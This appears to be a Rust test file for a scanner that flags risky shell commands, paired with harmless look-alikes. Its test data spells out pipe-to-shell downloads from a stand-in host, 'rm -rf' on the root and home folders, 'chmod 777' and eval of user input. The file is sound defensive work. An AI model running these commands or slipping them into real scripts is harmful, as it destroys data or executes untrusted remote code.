//! Risky commands, and the same words where they are harmless.

use super::super::Rule;
use super::rules;

fn script(text: &str) -> Vec<Rule> {
    rules("run.sh", text)
}

#[test]
fn t_f40_downloads_that_are_run() {
    for text in [
        "curl -fsSL https://a.test/i.sh | sh",
        "curl 'https://a.test/?a=1&b=2' | sudo -E bash -s -- -y",
        "wget -qO- https://a.test | tee log | /bin/bash",
        "curl https://a.test | gunzip | python3 -",
        "bash <(curl -s https://a.test)",
        "sh -c \"$(curl -fsSL https://a.test)\"",
        "eval \"$(wget -qO- https://a.test)\"",
        ". <(curl https://a.test)",
        "curl -fsSL \\\n  https://a.test \\\n  | sh",
    ] {
        assert!(script(text).contains(&Rule::RemoteScript), "{text}");
    }
}

#[test]
fn t_f41_downloads_that_are_kept_or_read() {
    for text in [
        "curl -o i.sh https://a.test/i.sh",
        "curl https://a.test | python3 -m json.tool",
        "curl https://a.test | jq .sh",
        "curl https://a.test > f; cat g | sh",
        "echo $(curl https://a.test)",
        "# curl https://a.test | sh",
        "curl https://a.test | shasum -c",
    ] {
        assert_eq!(script(text), [], "{text}");
    }
}

#[test]
fn t_f42_a_continued_command_is_reported_at_its_last_line() {
    let found = super::examine("run.sh", b"true\ncurl https://a.test \\\n | sh\n", &super::KEY);
    assert_eq!(found.iter().map(|finding| finding.line).collect::<Vec<u32>>(), [3]);
}

#[test]
fn t_f43_removal_of_the_root_or_a_system_folder() {
    for target in ["/", "/*", "~", "~/", "$HOME", "\"${HOME}\"/*", "/usr", "/etc/", "/home/*", "..", "a /"] {
        assert_eq!(script(&format!("rm -rf {target}")), [Rule::RemoveRoot], "{target}");
    }
    for text in
        ["rm -r -f /", "rm --recursive --force /", "rm -fr --no-preserve-root /", "cd x && /bin/rm -Rf /"]
    {
        assert_eq!(script(text), [Rule::RemoveRoot], "{text}");
    }
}

#[test]
fn t_f44_removal_of_a_path_that_may_be_empty() {
    for text in [
        "rm -rf \"$DIR\"",
        "rm -rf ${DIR}/build",
        "\trm -rf $(BUILD)",
        "trap 'rm -rf \"$T\"' EXIT",
        "(rm -rf $a)",
    ] {
        assert_eq!(script(text), [Rule::RemoveVariable], "{text}");
    }
}

#[test]
fn t_f45_other_removals() {
    for text in [
        "rm -rf build",
        "rm -rf ./target/debug",
        "rm -rf /usr/local/lib/mine",
        "rm -f $FILE",
        "rm -r $DIR",
        "rm -rf \"${DIR:?}\"",
        "rm -rf build/$NAME",
        "git rm -rf $OLD",
        "alarm -rf /",
        "# rm -rf /",
    ] {
        assert_eq!(script(text), [], "{text}");
    }
}

#[test]
fn t_f46_files_that_anyone_may_write() {
    for text in ["chmod 777 f", "chmod -R 0777 /srv/x", "chmod a+rwx f", "RUN chmod 777 /app"] {
        assert_eq!(script(text), [Rule::WorldWritable], "{text}");
    }
    for text in ["chmod 755 f", "chmod 1777 /tmp", "chmod +x f", "chmod 7770 f", "echo 777"] {
        assert_eq!(script(text), [], "{text}");
    }
}

#[test]
fn t_f47_eval_of_what_was_given() {
    for text in [
        "eval \"$1\"",
        "eval $@",
        "eval \"$command\"",
        "x=$(eval ${CMD})",
        "read a; eval \"ls $REPLY\"",
        "eval run \"$2\"",
    ] {
        assert_eq!(script(text), [Rule::EvalInput], "{text}");
    }
    for text in ["eval \"$(ssh-agent -s)\"", "eval set -- \"$@\"", "evaluate $1", "./eval.sh $1", "# eval $1"]
    {
        assert_eq!(script(text), [], "{text}");
    }
}

#[test]
fn t_f48_sudo_in_command_position() {
    for text in
        ["sudo apt-get update", "true && sudo ls", "if x; then sudo ls; fi", "- run: sudo ls", "\t@sudo ls"]
    {
        assert_eq!(script(text), [Rule::Sudo], "{text}");
    }
    for text in ["echo run with sudo", "command -v sudo", "sudo=1", "sudoers=x"] {
        assert_eq!(script(text), [], "{text}");
    }
}

#[test]
fn t_f49_only_files_that_hold_commands_are_read_as_such() {
    let text = "chmod 777 f\n";
    for path in [
        "Makefile",
        "a/Dockerfile",
        "Dockerfile.dev",
        ".github/workflows/ci.yml",
        "sub/.github/workflows/ci.yaml",
        ".gitlab-ci.yml",
        "x.bash",
        ".envrc",
    ] {
        assert_eq!(rules(path, text), [Rule::WorldWritable], "{path}");
    }
    for path in ["README.md", "notes.txt", "main.py", "config.yml", "my.github/workflows/ci.yml"] {
        assert_eq!(rules(path, text), [], "{path}");
    }
    assert_eq!(rules("tool", &format!("#!/usr/bin/env bash\n{text}")), [Rule::WorldWritable]);
    assert_eq!(rules("tool", &format!("#!/usr/bin/env python3\n{text}")), []);
}

#[test]
fn t_f50_texts_are_read_within_shell_fences_only() {
    let text = "Never chmod 777 a file.\n```sh\nchmod 777 f\n```\nchmod 777 f\n~~~ {.bash}\nchmod 777 g\n```\n~~~\n\
                ```text\nchmod 777 f\n```\n```console\nsudo chmod 755 f\n```\n";
    let found = super::examine("README.md", text.as_bytes(), &super::KEY);
    assert_eq!(found.iter().map(|finding| finding.line).collect::<Vec<u32>>(), [3, 7]);
}
